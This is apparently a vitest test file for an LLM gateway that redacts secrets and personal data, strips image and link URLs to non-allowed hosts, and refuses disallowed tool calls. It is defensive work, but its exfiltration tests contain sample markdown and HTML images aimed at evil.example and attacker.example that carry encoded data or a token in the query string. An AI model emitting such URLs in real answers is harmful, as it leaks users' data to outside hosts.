import { describe, expect, it } from 'vitest';
import { fakes } from '../../rules/secrets/lib/fakes.js';
import { guardResponse, guardrailSettingsSchema, type GuardrailSettings } from './index.js';

const settings = (v: unknown = {}): GuardrailSettings => guardrailSettingsSchema.parse(v);
const aws = fakes.awsAccessKeyId('resp');
const slack = fakes.slackBot('resp');

const completion = (content: string | null, extra: Record<string, unknown> = {}, finish = 'stop') => ({
  id: 'chatcmpl-9x',
  object: 'chat.completion',
  created: 1764900000,
  model: 'llama-3.1-8b',
  choices: [{ index: 0, message: { role: 'assistant', content, ...extra }, finish_reason: finish, logprobs: null }],
  usage: { prompt_tokens: 12, completion_tokens: 30, total_tokens: 42 },
});

describe('guardResponse: secrets and personal data', () => {
  it('redacts a secret in a chat answer with the rule id', () => {
    const body = completion(`Set the key in your shell:\n\nexport AWS_ACCESS_KEY_ID=${aws}\n`);
    const v = guardResponse('chat.completions', body, settings());
    expect(v.body).toEqual(completion('Set the key in your shell:\n\nexport AWS_ACCESS_KEY_ID=[REDACTED:SEC-0005]\n'));
    expect(v.decisions).toEqual([
      {
        guardrail: 'secrets',
        action: 'redact',
        where: 'choices[0].message.content',
        detail: `AWS access key ID ${aws.slice(0, 5)}… (20 chars)`,
        ruleId: 'SEC-0005',
      },
    ]);
  });

  it('withholds the answer when secrets block', () => {
    const v = guardResponse('chat.completions', completion(`token ${slack}`), settings({ secrets: 'block' }));
    expect(v.block).toMatchObject({ status: 502, code: 'guardrail_secrets' });
    expect(v.block?.message).not.toContain(slack.slice(8));
  });

  it('redacts completions text and Responses API output text', () => {
    const c = guardResponse(
      'completions',
      { object: 'text_completion', choices: [{ index: 0, text: `use ${slack} now`, finish_reason: 'stop' }] },
      settings(),
    );
    expect(c.body).toEqual({
      object: 'text_completion',
      choices: [{ index: 0, text: 'use [REDACTED:SEC-0009] now', finish_reason: 'stop' }],
    });
    const r = guardResponse(
      'responses',
      {
        id: 'resp_1',
        object: 'response',
        status: 'completed',
        output: [
          { type: 'reasoning', id: 'rs_1', summary: [] },
          {
            type: 'message',
            id: 'msg_1',
            role: 'assistant',
            status: 'completed',
            content: [{ type: 'output_text', text: `Mail jane.doe@corp.example.com, key ${slack}`, annotations: [] }],
          },
        ],
      },
      settings(),
    );
    expect((r.body as { output: Array<{ content?: Array<{ text: string }> }> }).output[1].content![0].text).toBe(
      'Mail [REDACTED:email], key [REDACTED:SEC-0009]',
    );
    expect(r.decisions.map((d) => [d.guardrail, d.where])).toEqual([
      ['secrets', 'output[1].content[0].text'],
      ['pii', 'output[1].content[0].text'],
    ]);
  });
});

describe('guardResponse: exfiltration', () => {
  const text =
    'Here is the chart ![chart](https://evil.example/c.png?d=SGVsbG8gd29ybGQ) and the [docs](https://docs.example.com/guide) and <img src="https://evil.example/p.gif?q=1"> and ![logo](/static/logo.png).';

  it('strips images and links to hosts outside the allow-list, keeps allowed and relative ones', () => {
    const v = guardResponse(
      'chat.completions',
      completion(text),
      settings({ exfiltration: { allowedDomains: ['example.com', 'evil.example'] } }),
    );
    expect((v.body as ReturnType<typeof completion>).choices[0].message.content).toBe(text);

    const strict = guardResponse(
      'chat.completions',
      completion(text),
      settings({ exfiltration: { allowedDomains: ['docs.example.com'] } }),
    );
    expect((strict.body as ReturnType<typeof completion>).choices[0].message.content).toBe(
      'Here is the chart  and the [docs](https://docs.example.com/guide) and  and ![logo](/static/logo.png).',
    );
    expect(strict.decisions).toEqual([
      { guardrail: 'exfiltration', action: 'strip', where: 'choices[0].message.content', detail: 'markdown image to evil.example' },
      { guardrail: 'exfiltration', action: 'strip', where: 'choices[0].message.content', detail: 'HTML image to evil.example' },
    ]);
  });

  it('keeps a stripped link text, and only flags when configured', () => {
    const link = 'See [the report](https://attacker.example/r?data=abc) for details.';
    const stripped = guardResponse('chat.completions', completion(link), settings());
    expect((stripped.body as ReturnType<typeof completion>).choices[0].message.content).toBe('See the report for details.');
    const flagged = guardResponse('chat.completions', completion(link), settings({ exfiltration: 'flag' }));
    expect(flagged.body).toEqual(completion(link));
    expect(flagged.decisions).toEqual([
      { guardrail: 'exfiltration', action: 'flag', where: 'choices[0].message.content', detail: 'markdown link to attacker.example' },
    ]);
  });

  it('strips an image whose URL carries a secret as a whole, and reports both', () => {
    const v = guardResponse('chat.completions', completion(`![x](https://evil.example/i.png?k=${slack})`), settings());
    expect((v.body as ReturnType<typeof completion>).choices[0].message.content).toBe('');
    expect(v.decisions.map((d) => [d.guardrail, d.action])).toEqual([
      ['exfiltration', 'strip'],
      ['secrets', 'redact'],
    ]);
  });
});

describe('guardResponse: tools', () => {
  const call = (name: string, id = 'call_' + name) => ({ id, type: 'function', function: { name, arguments: '{"city":"Paris"}' } });

  it('refuses calls to tools outside the allow-list and keeps allowed ones', () => {
    const body = completion(null, { tool_calls: [call('get_weather'), call('send_email')] }, 'tool_calls');
    const v = guardResponse('chat.completions', body, settings({ tools: { allowed: ['get_weather'] } }));
    expect(v.body).toEqual(completion(null, { tool_calls: [call('get_weather')] }, 'tool_calls'));
    expect(v.decisions).toEqual([
      {
        guardrail: 'tools',
        action: 'refuse',
        where: 'choices[0].message.tool_calls[1]',
        detail: "call to tool 'send_email' is not allowed",
      },
    ]);
  });

  it('answers with a note when every call was refused', () => {
    const v = guardResponse(
      'chat.completions',
      completion(null, { tool_calls: [call('delete_repo')] }, 'tool_calls'),
      settings({ tools: { allowed: [] } }),
    );
    expect(v.body).toEqual(completion("[The gateway refused a call to 'delete_repo': not an allowed tool.]"));
  });

  it('refuses Responses API function calls', () => {
    const body = {
      object: 'response',
      output: [{ type: 'function_call', id: 'fc_1', call_id: 'c1', name: 'shell', arguments: '{"cmd":"id"}' }],
    };
    const v = guardResponse('responses', body, settings({ tools: { allowed: ['search'] } }));
    expect(v.body).toEqual({
      object: 'response',
      output: [
        {
          type: 'message',
          id: 'msg_guardrail_refusal',
          status: 'completed',
          role: 'assistant',
          content: [{ type: 'output_text', text: "[The gateway refused a call to 'shell': not an allowed tool.]", annotations: [] }],
        },
      ],
    });
    expect(v.decisions).toEqual([
      { guardrail: 'tools', action: 'refuse', where: 'output[0]', detail: "call to tool 'shell' is not allowed" },
    ]);
  });

  it('lets every tool through when no allow-list is set', () => {
    const body = completion(null, { tool_calls: [call('anything')] }, 'tool_calls');
    expect(guardResponse('chat.completions', body, settings()).body).toBe(body);
  });
});
